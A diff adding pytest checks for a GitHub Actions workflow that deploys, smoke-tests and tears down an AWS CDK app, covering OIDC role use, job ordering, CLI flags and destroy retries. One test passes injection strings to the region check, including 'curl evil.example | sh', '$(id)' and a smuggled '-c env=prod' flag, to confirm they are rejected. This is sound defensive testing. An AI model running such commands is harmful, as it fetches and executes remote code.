@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import importlib.util
 import json
+import os
 import re
+import shlex
 import subprocess
 import sys
 import sysconfig
@@ -26,6 +28,8 @@ BIN = Path(sysconfig.get_path("scripts"))
 ALLOWED_WRITES = {
     ("diff.yml", "diff", "id-token"),  # OIDC token exchanged for the read-only diff role
     ("diff.yml", "comment", "pull-requests"),  # the one sticky comment
+    ("e2e.yml", "e2e", "id-token"),  # OIDC token exchanged for the e2e role, to deploy and smoke
+    ("e2e.yml", "destroy", "id-token"),  # the same role, to tear the deployment down
 }
 MARKER = "<!-- cdk-diff -->"
 GITHUB_COMMENT_LIMIT = 65_536
@@ -93,6 +97,11 @@ def diff() -> dict[str, Any]:
 
 
 @pytest.fixture(scope="module")
+def e2e() -> dict[str, Any]:
+    return load(WORKFLOWS / "e2e.yml")
+
+
+@pytest.fixture(scope="module")
 def helper():
     spec = importlib.util.spec_from_file_location("cdk_diff_comment", COMMENT_HELPER)
     module = importlib.util.module_from_spec(spec)
@@ -102,7 +111,7 @@ def helper():
 
 def test_the_workflows_are_there() -> None:
     # Every other check iterates over WORKFLOW_FILES; an empty or renamed directory must not make them pass vacuously.
-    assert {"ci.yml", "diff.yml"} <= {p.name for p in WORKFLOW_FILES}
+    assert {"ci.yml", "diff.yml", "e2e.yml"} <= {p.name for p in WORKFLOW_FILES}
 
 
 # --- offline linters ---------------------------------------------------------------------------------------------
@@ -242,7 +251,7 @@ def test_ci_lints_tests_then_synthesizes_on_python_312(ci: dict[str, Any]) -> No
     assert commands == ["make lint", "make test", "make synth"]
 
 
-@pytest.mark.parametrize("workflow", ["ci.yml", "diff.yml"])
+@pytest.mark.parametrize("workflow", ["ci.yml", "diff.yml", "e2e.yml"])
 def test_caches_are_keyed_on_the_lock_files(workflow: str) -> None:
     job = next(j for j in load(WORKFLOWS / workflow)["jobs"].values() if "actions/setup-python" in str(j))
     python = step_using(job, "actions/setup-python")["with"]
@@ -296,6 +305,351 @@ def test_the_job_that_can_write_on_the_pr_runs_no_repository_code(diff: dict[str
     job = diff["jobs"]["comment"]
     assert job["needs"] == "diff"
     assert [s["uses"].split("@")[0] for s in steps(job)] == ["actions/github-script"]
+
+
+# --- e2e: deploy, smoke, live test, destroy -----------------------------------------------------------------------
+
+E2E_GUARD = {"vars.AWS_E2E_ROLE_ARN != ''", "github.event.repository.fork != true"}
+# GitHub's run ids are JavaScript-safe integers: at most 2^53, 16 digits.
+MAX_RUN_ID = 2**53
+EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
+REPEATED_OPTION = "can only be specified once"
+
+
+def conjuncts(condition: str) -> set[str]:
+    assert "||" not in condition, "every clause alone must be able to skip the job"
+    return {clause.strip() for clause in condition.split("&&")}
+
+
+def resolve(value: str, context: dict[str, str]) -> str:
+    """Substitute the `${{ }}` expressions a test knows the value of; any other expression fails the test."""
+
+    def substitute(match: re.Match[str]) -> str:
+        assert match[1] in context, f"unexpected expression {match[0]!r}"
+        return context[match[1]]
+
+    return EXPRESSION.sub(substitute, str(value))
+
+
+def e2e_env(e2e: dict[str, Any], run_id: int, region: str | None = None) -> dict[str, str]:
+    """The workflow's env as the runner would set it for a run (a dispatch with `region`, else the schedule)."""
+    region_expression = "inputs.region || vars.AWS_REGION || 'us-east-1'"
+    context = {"github.run_id": str(run_id), region_expression: region or "us-east-1"}
+    return {name: resolve(value, context) for name, value in e2e["env"].items()}
+
+
+def step_env(step: dict[str, Any], env: dict[str, str]) -> dict[str, str]:
+    """A step's environment: the workflow's, plus the step's own, whose values may read the workflow's (`env.X`)."""
+    context = {f"env.{name}": value for name, value in env.items()}
+    return {**env, **{name: resolve(value, context) for name, value in step.get("env", {}).items()}}
+
+
+def named(job: dict[str, Any], predicate) -> dict[str, Any]:
+    return steps(job)[index_of(job, predicate)]
+
+
+def runs(command: str):
+    return lambda step: step.get("run", "").lstrip().startswith(command)
+
+
+def assumes_role(step: dict[str, Any]) -> bool:
+    return step.get("uses", "").split("@")[0] == "aws-actions/configure-aws-credentials"
+
+
+def fake_command(directory: Path, name: str, body: str) -> None:
+    """An executable Python script named `name` in `directory`, running `body`."""
+    path = directory / name
+    path.write_text(f"#!{sys.executable}\nimport json, os, sys\nfrom pathlib import Path\n{body}\n")
+    path.chmod(0o755)
+
+
+RECORD_CALL = """
+calls = Path(os.environ["CALLS"])
+with calls.open("a") as record:
+    record.write(json.dumps(sys.argv) + "\\n")
+"""
+
+
+def run_step(
+    step: dict[str, Any], env: dict[str, str], tmp_path: Path, fakes: dict[str, str] | None = None, cwd: Path = ROOT
+) -> tuple[subprocess.CompletedProcess[str], list[list[str]]]:
+    """Run a step's script as the runner does (`bash -e`), with `fakes` shadowing commands; returns the calls made."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir(exist_ok=True)
+    for name, body in (fakes or {}).items():
+        fake_command(bin_dir, name, RECORD_CALL + body)
+    calls = tmp_path / "calls.jsonl"
+    calls.unlink(missing_ok=True)
+    environ = {
+        "PATH": f"{bin_dir}:/usr/bin:/bin",
+        "HOME": str(tmp_path),
+        "CALLS": str(calls),
+        "RUNNER_TEMP": str(tmp_path),
+        # No AWS credentials from anywhere: the instance metadata service included.
+        "AWS_EC2_METADATA_DISABLED": "true",
+        "AWS_CONFIG_FILE": "/dev/null",
+        "AWS_SHARED_CREDENTIALS_FILE": "/dev/null",
+        "PYTEST_ADDOPTS": "-p no:cacheprovider",
+        **step_env(step, env),
+    }
+    result = subprocess.run(
+        ["bash", "-e", "-c", step["run"]], cwd=cwd, env=environ, capture_output=True, text=True, timeout=120
+    )
+    recorded = [json.loads(line)[1:] for line in calls.read_text().splitlines()] if calls.exists() else []
+    return result, recorded
+
+
+def make_variable(call: list[str], name: str) -> str:
+    (value,) = [arg.split("=", 1)[1] for arg in call if arg.startswith(f"{name}=")]
+    return value
+
+
+def context_flags(cdk_flags: str) -> list[str]:
+    """The `-c key=value` pairs of a CDK_FLAGS value: which deployment it names."""
+    words = shlex.split(cdk_flags)
+    return [f"{words[i]} {words[i + 1]}" for i, word in enumerate(words) if word == "-c"]
+
+
+def test_e2e_runs_only_when_dispatched_or_on_its_schedule(e2e: dict[str, Any]) -> None:
+    on = triggers(e2e)
+    assert set(on) == {"workflow_dispatch", "schedule"}, "never on a push or a PR: it deploys to a real account"
+    assert [entry["cron"].split()[4] for entry in on["schedule"]] == ["1"], "once a week"
+    region = on["workflow_dispatch"]["inputs"]["region"]
+    assert region["type"] == "string" and region["default"] == "us-east-1"
+
+
+def test_e2e_jobs_skip_without_the_role_and_in_forks(e2e: dict[str, Any]) -> None:
+    assert set(e2e["jobs"]) == {"e2e", "destroy"}
+    for job_id, job in e2e["jobs"].items():
+        assert E2E_GUARD <= conjuncts(job["if"]), job_id
+        # The trust policy's subject is repo:OWNER/REPO:environment:e2e: a job outside it could not assume the role.
+        assert job["environment"] == "e2e", job_id
+        assert isinstance(job["timeout-minutes"], int), f"{job_id} needs a timeout: it holds AWS credentials"
+
+
+@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
+def test_an_oidc_token_only_where_a_role_is_assumed(path: Path) -> None:
+    for job_id, job in load(path)["jobs"].items():
+        assuming = [s for s in steps(job) if assumes_role(s)]
+        assert len(assuming) <= 1, f"{path.name}:{job_id} assumes more than one role"
+        wants_token = job["permissions"].get("id-token") == "write"
+        assert wants_token == bool(assuming), f"{path.name}:{job_id}: id-token: write iff the job assumes a role"
+        for step in assuming:
+            assert not {"aws-access-key-id", "aws-secret-access-key"} & set(step["with"]), "OIDC only, no stored keys"
+
+
+def test_e2e_installs_everything_before_assuming_the_role(e2e: dict[str, Any]) -> None:
+    for job_id, job in e2e["jobs"].items():
+        credentials = named(job, assumes_role)
+        assert credentials["with"]["role-to-assume"] == "${{ vars.AWS_E2E_ROLE_ARN }}"
+        assert credentials["with"]["aws-region"] == "${{ env.E2E_REGION }}"
+        assume = index_of(job, assumes_role)
+        assert index_of(job, runs("make setup")) < assume, job_id
+        # After the credentials exist, only this repository's own commands run: no action, nothing installed.
+        after = steps(job)[assume + 1 :]
+        assert after and all("uses" not in s and "run" in s for s in after), job_id
+        assert not any(re.search(r"\b(pip|npm|npx|apt-get)\b", s["run"]) for s in after), job_id
+
+
+def test_e2e_builds_arm64_with_the_runners_own_docker_builder(e2e: dict[str, Any]) -> None:
+    job = e2e["jobs"]["e2e"]
+    qemu = step_using(job, "docker/setup-qemu-action")
+    assert "arm64" in qemu["with"]["platforms"].split(",")
+    assert index_of(job, lambda s: s is qemu) < index_of(job, assumes_role)
+    # `cdk deploy` runs a plain `docker build` (no --load): under setup-buildx-action's docker-container builder
+    # the image would stay in the build cache and the push would find nothing.
+    assert not any(ref.split("@")[0] == "docker/setup-buildx-action" for ref in all_uses(e2e))
+
+
+def test_e2e_deploys_then_smokes_then_runs_the_live_test(e2e: dict[str, Any]) -> None:
+    job = e2e["jobs"]["e2e"]
+    assume = index_of(job, assumes_role)
+    deploy = index_of(job, runs("make deploy"))
+    smoke = index_of(job, runs("make smoke"))
+    live = index_of(job, lambda s: "pytest tests/live" in s.get("run", ""))
+    assert assume < deploy < smoke < live
+    # Nothing is skipped on the way (a later step only runs when the earlier ones succeeded) ...
+    assert all("if" not in s for s in steps(job)), "a step condition could let the tests run past a failed deploy"
+    # ... and the teardown is not this job's business: it could be cut off by the timeout or a cancellation.
+    assert not any("make destroy" in s.get("run", "") for s in steps(job))
+
+
+def test_the_destroy_job_runs_after_the_e2e_job_whatever_became_of_it(e2e: dict[str, Any]) -> None:
+    destroy = e2e["jobs"]["destroy"]
+    assert destroy["needs"] == "e2e"
+    clauses = conjuncts(destroy["if"])
+    # always(), not !cancelled() nor success(): a cancelled or failed run is the one that leaves stacks behind.
+    assert "always()" in clauses
+    assert not {"!cancelled()", "success()", "failure()"} & clauses
+    # Skipped only along with the e2e job (no role, a fork): then nothing was deployed.
+    assert clauses - E2E_GUARD == {"always()", "needs.e2e.result != 'skipped'"}
+    commands = [s["run"] for s in steps(destroy) if "run" in s]
+    assert sum("make destroy" in c for c in commands) == 1
+    assert not any(re.search(r"make (deploy|smoke)", c) for c in commands)
+
+
+def test_the_same_deployment_is_deployed_smoked_tested_and_destroyed(e2e: dict[str, Any], tmp_path: Path) -> None:
+    from tests.live.test_live_smoke import smoke_argv
+    from tools import smoke
+
+    env = e2e_env(e2e, run_id=MAX_RUN_ID, region="eu-west-1")
+    job, destroy = e2e["jobs"]["e2e"], e2e["jobs"]["destroy"]
+    fakes = {"make": "sys.exit(0)"}
+    make_calls = {}
+    for name, step in [
+        ("deploy", named(job, runs("make deploy"))),
+        ("smoke", named(job, runs("make smoke"))),
+        ("destroy", named(destroy, lambda s: "make destroy" in s.get("run", ""))),
+    ]:
+        result, calls = run_step(step, env, tmp_path, fakes)
+        assert result.returncode == 0, result.stderr
+        ((target, *_),) = calls
+        assert target == name
+        make_calls[name] = calls[0]
+
+    deployed = context_flags(make_variable(make_calls["deploy"], "CDK_FLAGS"))
+    assert deployed == ["-c env=dev", f"-c namePrefix=e2e{MAX_RUN_ID}", "-c region=eu-west-1"]
+    assert context_flags(make_variable(make_calls["destroy"], "CDK_FLAGS")) == deployed
+
+    expected = ("dev", f"e2e{MAX_RUN_ID}", "eu-west-1")
+    smoked = smoke.parse_args(shlex.split(make_variable(make_calls["smoke"], "SMOKE_ARGS")))
+    assert (smoked.env, smoked.prefix, smoked.region) == expected
+    assert smoked.outputs_file == Path("outputs.json"), "the outputs `make deploy` just wrote"
+    live = named(job, lambda s: "pytest tests/live" in s.get("run", ""))
+    live_env = step_env(live, env)
+    assert live_env["AGENTCORE_SMOKE"] == "1"
+    tested = smoke.parse_args(smoke_argv(live_env))
+    assert (tested.env, tested.prefix, tested.region) == expected
+
+
+def test_the_deploy_and_destroy_flags_work_with_the_pinned_cli_and_no_tty(e2e: dict[str, Any], tmp_path: Path) -> None:
+    env = e2e_env(e2e, run_id=12345)
+    job, destroy = e2e["jobs"]["e2e"], e2e["jobs"]["destroy"]
+    _, (deploy_call,) = run_step(named(job, runs("make deploy")), env, tmp_path, {"make": "sys.exit(0)"})
+    _, (destroy_call,) = run_step(
+        named(destroy, lambda s: "make destroy" in s.get("run", "")), env, tmp_path, {"make": "sys.exit(0)"}
+    )
+    deploy_flags, destroy_flags = make_variable(deploy_call, "CDK_FLAGS"), make_variable(destroy_call, "CDK_FLAGS")
+    # No TTY on a runner: --yes answers the Makefile's --require-approval prompt, --force the destroy prompt.
+    assert "--yes" in shlex.split(deploy_flags) and "--force" in shlex.split(destroy_flags)
+
+    def cli(target: str, flags: str) -> str:
+        """The CDK CLI run with the exact command `make` would run, up to (and failing at) running the app."""
+        dry = run("make", "-n", target, f"CDK_FLAGS={flags}")
+        assert dry.returncode == 0, dry.stderr
+        (command,) = [line for line in dry.stdout.splitlines() if line.startswith("cdk ")]
+        environ = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
+        environ.update(
+            PATH=f"{BIN}:{ROOT / 'node_modules' / '.bin'}:{environ['PATH']}",
+            CDK_DISABLE_CLI_TELEMETRY="true",
+            CDK_DISABLE_VERSION_CHECK="true",
+            AWS_EC2_METADATA_DISABLED="true",
+        )
+        result = subprocess.run(
+            [*shlex.split(command), "--app", "false"],
+            cwd=tmp_path,
+            env=environ,
+            capture_output=True,
+            text=True,
+            timeout=60,
+        )
+        return result.stdout + result.stderr
+
+    for target, flags in (("deploy", deploy_flags), ("destroy", destroy_flags)):
+        output = cli(target, flags)
+        assert REPEATED_OPTION not in output, output
+        assert "Subprocess exited with error 1" in output, f"the CLI stopped before running the app: {output}"
+    # The check can tell: repeating an option the Makefile sets is refused before anything runs.
+    assert REPEATED_OPTION in cli("deploy", deploy_flags.replace("--yes", "--require-approval never"))
+
+
+@pytest.mark.parametrize("run_id", [1, 42, 2 * 10**10, 10**15, MAX_RUN_ID - 1, MAX_RUN_ID])
+def test_the_prefix_obeys_the_apps_name_rule_for_any_run_id(e2e: dict[str, Any], run_id: int) -> None:
+    from app_config import load_config
+    from tests.cdk_helpers import load_context
+
+    assert re.fullmatch(r"[a-z][a-z0-9]*\$\{\{ github\.run_id \}\}", e2e["env"]["E2E_PREFIX"])
+    env = e2e_env(e2e, run_id)
+    prefix = env["E2E_PREFIX"]
+    # 2^53 has 16 digits: "e2e" leaves one of the rule's 20 characters to spare, a 5-letter literal would not fit.
+    assert len(prefix) <= 20
+    # The app's own validation, derived names (gateway, runtimes, stacks, Cognito domains) included.
+    config = load_config(load_context(env=env["E2E_ENV"], namePrefix=prefix, region=env["E2E_REGION"]))
+    assert config.names.gateway.startswith(f"{prefix}-dev")
+
+
+def test_both_jobs_first_check_what_reaches_make_s_shell(e2e: dict[str, Any], tmp_path: Path) -> None:
+    first = [steps(job)[0] for job in e2e["jobs"].values()]
+    assert first[0]["run"] == first[1]["run"], "the two jobs check the same way"
+    check = first[0]
+    for region, expected in [
+        ("us-east-1", 0),
+        ("eu-central-1", 0),
+        ("us-gov-west-1", 0),
+        ("us-east-1; curl evil.example | sh", 1),
+        ("us-east-1 -c namePrefix=mcpgw", 1),
+        ("$(id)", 1),
+        ("US-EAST-1", 1),
+    ]:
+        result, _ = run_step(check, e2e_env(e2e, MAX_RUN_ID, region), tmp_path)
+        assert result.returncode == expected, (region, result.stdout, result.stderr)
+    hostile = {**e2e_env(e2e, 1), "E2E_PREFIX": "e2e1 -c env=prod"}
+    result, _ = run_step(check, hostile, tmp_path)
+    assert result.returncode == 1 and "name prefix" in result.stdout
+
+
+def test_a_skipped_live_test_fails_the_step(e2e: dict[str, Any], tmp_path: Path) -> None:
+    # For real: the repository's live test, without credentials, skips itself; the step must not pass that.
+    live = named(e2e["jobs"]["e2e"], lambda s: "pytest tests/live" in s.get("run", ""))
+    result, _ = run_step(live, e2e_env(e2e, 7), tmp_path)
+    assert result.returncode != 0
+    assert "no AWS credentials" in result.stdout and "checked nothing" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("tests", "skipped", "pytest_code", "passes"),
+    [(1, 0, 0, True), (1, 1, 0, False), (0, 0, 5, False), (1, 0, 1, False)],
+    ids=["passed", "skipped", "none-collected", "failed"],
+)
+def test_the_live_step_passes_only_when_the_live_test_ran_and_passed(
+    e2e: dict[str, Any], tmp_path: Path, tests: int, skipped: int, pytest_code: int, passes: bool
+) -> None:
+    live = named(e2e["jobs"]["e2e"], lambda s: "pytest tests/live" in s.get("run", ""))
+    venv_bin = tmp_path / ".venv" / "bin"
+    venv_bin.mkdir(parents=True)
+    fake_command(
+        venv_bin,
+        "python",
+        f"""
+if sys.argv[1:3] != ["-m", "pytest"]:
+    os.execv(sys.executable, [sys.executable, *sys.argv[1:]])
+(report,) = [a.split("=", 1)[1] for a in sys.argv if a.startswith("--junitxml=")]
+Path(report).write_text('<testsuites><testsuite tests="{tests}" skipped="{skipped}"/></testsuites>')
+sys.exit({pytest_code})
+""",
+    )
+    result, _ = run_step(live, e2e_env(e2e, 7), tmp_path, cwd=tmp_path)
+    assert (result.returncode == 0) is passes, result.stdout + result.stderr
+
+
+def test_destroy_is_retried_then_reported(e2e: dict[str, Any], tmp_path: Path) -> None:
+    step = named(e2e["jobs"]["destroy"], lambda s: "make destroy" in s.get("run", ""))
+    env = e2e_env(e2e, 99)
+    made = "[line for line in calls.read_text().splitlines() if json.loads(line)[0].endswith('/make')]"
+    fail_twice = f"sys.exit(0 if len({made}) > 2 else 1)"
+    result, calls = run_step(step, env, tmp_path, {"make": fail_twice, "sleep": "sys.exit(0)"})
+    assert result.returncode == 0, result.stderr
+    assert [c[0] for c in calls] == ["destroy", "60", "destroy", "180", "destroy"]
+
+    result, calls = run_step(step, env, tmp_path, {"make": "sys.exit(2)", "sleep": "sys.exit(0)"})
+    assert result.returncode == 1
+    assert [c[0] for c in calls].count("destroy") == 4
+    assert "e2e99-dev" in result.stdout and "still there" in result.stdout
+
+
+def test_e2e_runs_one_at_a_time_and_never_cancels_a_running_deployment(e2e: dict[str, Any]) -> None:
+    # One group for every run (not per ref): two e2e deployments never share the account's quotas at once.
+    assert e2e["concurrency"] == {"group": "${{ github.workflow }}", "cancel-in-progress": False}
 
 
 # --- the sticky comment script, run in node with a fake GitHub ---------------------------------------------------
